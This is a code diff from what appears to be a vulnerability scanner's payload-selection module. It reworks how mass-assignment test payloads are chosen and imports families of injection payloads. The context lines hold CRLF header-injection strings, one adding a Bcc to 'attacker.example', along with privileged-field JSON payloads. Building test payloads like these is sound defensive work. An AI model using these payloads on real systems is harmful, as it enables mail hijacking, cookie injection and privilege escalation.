@@ -7,7 +7,7 @@ import { path, redirect, serverRequest } from './address-payloads.ts';
 import { code, command, nosql, sql, template, workflow, xpath } from './injection-payloads.ts';
 import { markup } from './markup-payloads.ts';
 import { type Fitting, type Payload, supports, weakens } from './payload.ts';
-import { dangerousFileName, isMail, privilegedField } from './payload-dialects.ts';
+import { dangerousFileName, isMail, privilegedField, privilegedValue } from './payload-dialects.ts';
 import { serialized } from './serialized-payloads.ts';
 import { stringContext } from './string-context.ts';
 
@@ -15,6 +15,16 @@ const header: Fitting = (_context, { sinkApi }) =>
   isMail.test(sinkApi)
     ? supports('x\r\nBcc: someone@attacker.example', 'inside a header of the mail')
     : supports('x\r\nSet-Cookie: injected=1', 'inside a header');
+
+/** Of an object that is stored as it was sent the field is known, else one is named that many programs have. */
+const privilege: Fitting = (_context, { file, sinkArgument, entryPoint }) => {
+  const isField = typeof sinkArgument === 'string' && sinkArgument === entryPoint?.parameter?.name;
+  if (!isField)
+    return { ...supports(`{"${privilegedField(file)}":true}`, 'as fields of the object'), isJson: true };
+  const value = privilegedValue(sinkArgument);
+  const payload = supports(String(value), 'in an object that is stored as it was sent');
+  return typeof value === 'string' ? payload : { ...payload, isJson: true };
+};
 
 const seenInHead =
   (fitting: Fitting): Fitting =>
@@ -79,10 +89,7 @@ const fittings: Readonly<Record<string, Fitting>> = {
   }),
   redos: regex,
   'slow-regex': regex,
-  'mass-assignment': (_context, { file }) => ({
-    ...supports(`{"${privilegedField(file)}":true}`, 'as fields of the object'),
-    isJson: true,
-  }),
+  'mass-assignment': privilege,
 };
 
 /** The payload of this candidate, or null when its category has none or it has no flow. */
